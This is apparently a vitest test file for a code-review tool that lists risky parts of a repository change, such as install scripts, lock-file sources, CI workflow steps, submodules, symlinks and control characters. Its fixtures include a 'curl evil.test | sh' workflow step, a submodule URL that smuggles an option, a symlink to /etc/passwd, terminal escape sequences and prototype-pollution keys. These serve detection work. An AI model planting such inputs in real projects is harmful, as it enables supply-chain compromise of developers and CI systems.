import { describe, expect, test } from 'vitest';
import { type TreeChange, type TrustSurface, trustSurfaceOf } from '../../../src/review/index.ts';

interface Side {
  readonly mode?: string;
  readonly text: string | Buffer;
}

/** The surface of a change that is given as texts; a blob's id is its place in the list. */
async function surfaceOf(files: Readonly<Record<string, { before?: Side | string; after?: Side | string }>>): Promise<TrustSurface> {
  const blobs: Buffer[] = [];
  const store = (side: Side | string | undefined): { mode: string; id: string } => {
    if (side === undefined) return { mode: '000000', id: '0'.repeat(40) };
    const { mode = '100644', text } = typeof side === 'string' ? { text: side } : side;
    blobs.push(Buffer.from(text));
    return { mode, id: String(blobs.length - 1) };
  };
  const changes = Object.entries(files).map(([path, { before, after }]): TreeChange => {
    const [old, next] = [store(before), store(after)];
    return { path: Buffer.from(path), oldMode: old.mode, oldId: old.id, mode: next.mode, id: next.id };
  });
  return await trustSurfaceOf(changes, async (id) => blobs[Number(id)]);
}

describe('the trust surface of a change', () => {
  test('is empty where nothing that is listed changed', async () => {
    expect(await surfaceOf({ 'src/a.ts': { before: 'a', after: 'b' }, 'README.md': { after: 'x' } })).toEqual({ findings: [], omitted: 0 });
  });

  test('names scripts and dependencies of a package.json that were added, changed and removed', async () => {
    const before = JSON.stringify({ scripts: { test: 'vitest', old: 'x' }, dependencies: { zod: '^4.0.0' } });
    const after = JSON.stringify({
      scripts: { test: 'vitest', postinstall: 'node x.js' },
      dependencies: { zod: '^4.1.0', 'left-pad': '1' },
    });
    const { findings } = await surfaceOf({ 'package.json': { before, after } });
    expect(findings).toMatchObject([{ kind: 'npm-manifest', when: 'install', change: 'modified' }]);
    expect(findings[0]?.details).toEqual([
      '+ scripts.postinstall: node x.js',
      '- scripts.old',
      '~ dependencies.zod: ^4.0.0 → ^4.1.0',
      '+ dependencies.left-pad: 1',
    ]);
  });

  test('names packages that a lock file adds, their install scripts and where they come from', async () => {
    const entry = (version: string, more: object = {}): object => ({ version, resolved: 'https://packages.example/x.tgz', ...more });
    const before = JSON.stringify({ lockfileVersion: 3, packages: { '': {}, 'node_modules/a': entry('1.0.0') } });
    const after = JSON.stringify({
      lockfileVersion: 3,
      packages: {
        '': {},
        'node_modules/a': entry('1.0.1'),
        'node_modules/@s/b': entry('2.0.0', { hasInstallScript: true }),
        'node_modules/a/node_modules/c': { version: '3.0.0', resolved: 'http://evil.test/c.tgz' },
      },
    });
    const { findings } = await surfaceOf({ 'package-lock.json': { before, after } });
    expect(findings[0]?.details).toEqual([
      '+ @s/b 2.0.0 (runs an install script, from packages.example)',
      '+ c 3.0.0 (from http://evil.test/c.tgz)',
      '~ a 1.0.0 → 1.0.1 (from packages.example)',
    ]);
  });

  test.each([
    ['yarn.lock', '"@s/b@^2.0.0", b@1:\n  version "2.0.1"\n  resolved "x"\n\na@^1:\n  version "1.0.0"\n', ['+ @s/b 2.0.1', '+ a 1.0.0']],
    ['pnpm-lock.yaml', "packages:\n\n  '@s/b@2.0.1':\n    resolution: {}\n\n  /a@1.0.0(react@18.0.0):\n", ['+ @s/b 2.0.1', '+ a 1.0.0']],
    [
      'Cargo.lock',
      '[[package]]\nname = "serde"\nversion = "1.0.0"\nsource = "git+https://evil.test/x"\n',
      ['+ serde 1.0.0 (from git+https://evil.test/x)'],
    ],
    ['uv.lock', '[[package]]\nname = "requests"\nversion = "2.0"\n', ['+ requests 2.0']],
    ['go.sum', 'example.test/m v1.2.3 h1:abc=\nexample.test/m v1.2.3/go.mod h1:def=\n', ['+ example.test/m v1.2.3']],
    ['Gemfile.lock', 'GEM\n  specs:\n    rake (13.0.6)\n      dep (>= 1)\n', ['+ rake 13.0.6']],
    ['composer.lock', JSON.stringify({ packages: [{ name: 'v/p', version: '1.0' }] }), ['+ v/p 1.0']],
    [
      'requirements.txt',
      '--index-url https://evil.test\nrequests==2.0 # pinned\nflask[async]\n',
      ['+ --index-url https://evil.test ', '+ requests ==2.0', '+ flask any version'],
    ],
  ])('reads the packages of %s', async (path, after, details) => {
    const { findings } = await surfaceOf({ [path]: { before: '', after } });
    expect(findings[0]?.details).toEqual(details.map((line) => line.trim()));
  });

  test('shows addresses of submodules, drivers of attributes, and steps of a workflow', async () => {
    const { findings } = await surfaceOf({
      '.gitmodules': { after: '[submodule "x"]\n\tpath = x\n\turl = -u./payload\n' },
      '.gitattributes': { before: '*.a text\n', after: '*.a text\n*.c filter=evil\n' },
      '.github/workflows/ci.yml': { after: 'on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: curl evil.test | sh\n' },
    });
    expect(findings.map(({ kind, details }) => [kind, details])).toEqual([
      ['github-workflow', ['on: pull_request_target', '- run: curl evil.test | sh']],
      ['git-attributes', ['*.c filter=evil']],
      ['git-submodules', ['[submodule "x"]', 'path = x', 'url = -u./payload']],
    ]);
  });

  test('lists new executables, links and submodules whatever their name', async () => {
    const { findings } = await surfaceOf({
      tool: { before: 'x', after: { mode: '100755', text: 'x' } },
      link: { after: { mode: '120000', text: '../../etc/passwd' } },
      lib: { after: { mode: '160000', text: '' } },
      old: { before: { mode: '100755', text: 'a' }, after: { mode: '100755', text: 'b' } },
    });
    expect(findings.map(({ kind, path, details }) => [kind, path, details])).toEqual([
      ['submodule', 'lib', [`commit none → 2`.replace('2', '3')]],
      ['symbolic-link', 'link', ['→ ../../etc/passwd']],
      ['executable', 'tool', ['mode 100644 → 100755']],
    ]);
  });

  test('shows control, bidirectional and invisible characters of names and contents as codes', async () => {
    const { findings } = await surfaceOf({
      'a\u001b[2J\n\u202e/Makefile': { after: 'all:\n' },
      'package.json': { after: JSON.stringify({ scripts: { test: 'a\u202eb\u001b]52;c;x\u0007' } }) },
    });
    expect(findings.map(({ path }) => path)).toEqual(['package.json', 'a\\u{1b}[2J\\u{a}\\u{202e}/Makefile']);
    expect(findings[0]?.details).toEqual(['+ scripts.test: a\\u{202e}b\\u{1b}]52;c;x\\u{7}']);
  });

  test('says so where a file cannot be read, and still lists it', async () => {
    const { findings } = await surfaceOf({ 'package.json': { after: '{"scripts":' } });
    expect(findings[0]?.details[0]).toMatch(/^cannot be read: /);
    const large = await trustSurfaceOf(
      [{ path: Buffer.from('package.json'), oldMode: '000000', oldId: '0', mode: '100644', id: '1' }],
      async () => undefined,
    );
    expect(large.findings[0]?.details).toEqual(['too large to be read here: look at the diff']);
  });

  test('survives hostile manifests: prototypes, depth and size', async () => {
    let deep: object = {};
    for (let depth = 0; depth < 2_000; depth += 1) deep = { dependencies: { a: { version: '1', ...deep } } };
    const { findings } = await surfaceOf({
      'a/package.json': { after: '{"__proto__":{"scripts":{"x":"y"}},"scripts":{"__proto__":"z","constructor":"w"}}' },
      'b/package-lock.json': { after: JSON.stringify(deep) },
      'c/package.json': {
        after: JSON.stringify({ scripts: Object.fromEntries(Array.from({ length: 500 }, (_, index) => [`s${index}`, 'x'])) }),
      },
      'd/yarn.lock': { after: `a@1:\n${`${' '.repeat(500)}x\n`.repeat(2_000)}` },
    });
    expect(findings[0]?.details).toEqual(['+ scripts.__proto__: z', '+ scripts.constructor: w']);
    expect(findings[1]?.details).toEqual(['cannot be read: it nests more than 100 packages']);
    expect(findings[2]?.details.at(-1)).toBe('… and 460 more');
    expect(Object.prototype).not.toHaveProperty('scripts');
  });

  test('counts what it does not list', async () => {
    const files = Object.fromEntries(Array.from({ length: 2_100 }, (_, index) => [`d${index}/Makefile`, { after: 'all:\n' }]));
    const { findings, omitted } = await surfaceOf(files);
    expect([findings.length, omitted]).toEqual([2_000, 100]);
  });
});
